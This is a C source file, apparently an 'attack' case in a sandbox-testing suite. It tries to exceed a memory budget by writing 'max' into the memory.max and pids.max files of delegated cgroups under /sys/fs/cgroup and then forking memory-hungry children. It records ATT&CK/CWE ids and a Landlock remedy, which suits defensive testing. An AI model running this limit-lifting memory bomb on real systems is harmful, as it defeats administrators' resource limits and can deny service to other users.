// SPDX-License-Identifier: MIT
/*
 * lifted-limit.c - the limit belongs to who is limited by it.
 *
 * Goal:  more memory than the budget.
 * Means: a folder of control groups that was handed on to this user. The files of a group in it are the
 *        user's, and that is the program too: it writes "max" into its own. Then
 *        five children take what the budget forbids. Where there is no such folder the first step finds
 *        nothing, and the rest is many-children.c.
 */
#include "attacks/memory-bomb/children.h"

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>

#define GROUPS "/sys/fs/cgroup"

static bool put(const char *folder, const char *file, const char *text)
{
	char path[4096];
	int fd, n;

	snprintf(path, sizeof(path), "%s/%s", folder, file);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : (int)write(fd, text, strlen(text));
	if (fd >= 0)
		close(fd);
	return n > 0;
}

/* In each group below the folder, one's own among them, no more limits. */
static void lift_all(void)
{
	DIR *all = opendir(GROUPS);
	struct dirent *one;
	char folder[sizeof(GROUPS) + 256];

	while (all && (one = readdir(all))) {
		if (one->d_type != DT_DIR || one->d_name[0] == '.')
			continue;
		snprintf(folder, sizeof(folder), GROUPS "/%s", one->d_name);
		put(folder, "memory.max", "max");
		put(folder, "pids.max", "max");
	}
	if (all)
		closedir(all);
}

static enum claim run(const struct brief *b)
{
	enum claim claim;
	pid_t child[CHILDREN];
	int full[2];

	if (pipe(full))
		return failed("pipe");
	attempting(b);
	lift_all();
	for (int i = 0; i < CHILDREN; i++) {
		child[i] = fork();
		if (!child[i])
			grow(full[1]);
		if (child[i] > 0)
			continue;
		claim = denied("fork");
		while (i-- > 0)
			kill(child[i], SIGKILL);
		return claim;
	}
	return hold_children(full);
}

const struct attack attack = {
	.effect = "more memory than the budget, though a cgroup is there to bound it",
	.means = "writing \"max\" into the files of one's own cgroup, which was handed on to this user",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770, CWE-732",
	.remedy = "a wall around files beside the cgroup (Landlock); a group that another user owns",
	.refs = (const char *const[]){ "Documentation/admin-guide/cgroup-v2.rst: Delegation", NULL },
	.run = run,
};
